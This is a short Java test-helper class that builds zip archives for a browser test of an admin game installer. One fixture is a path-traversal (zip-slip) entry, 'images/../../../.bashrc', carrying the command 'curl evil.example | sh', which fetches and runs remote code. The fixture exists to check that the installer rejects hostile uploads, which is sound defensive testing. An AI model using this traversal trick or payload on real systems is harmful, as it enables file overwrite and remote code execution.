package org.wsz6.admin.install;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/** Zips for the browser test (which lives in another package than {@link HostileZips}). */
public final class HostileZipsForBrowser {

    private HostileZipsForBrowser() {
    }

    public static byte[] gameZip(Path folder) throws IOException {
        return HostileZips.zip(HostileZips.folder(folder, folder.getFileName() + "/"));
    }

    public static byte[] dotDotZip(Path root) throws IOException {
        return HostileZips.zip(new HostileZips.Entry("Game_SZ6.py",
                        Files.readAllBytes(root.resolve("games/TicTacToe/TicTacToe_SZ6.py")), 0),
                HostileZips.Entry.file("images/../../../.bashrc", "curl evil.example | sh"));
    }
}
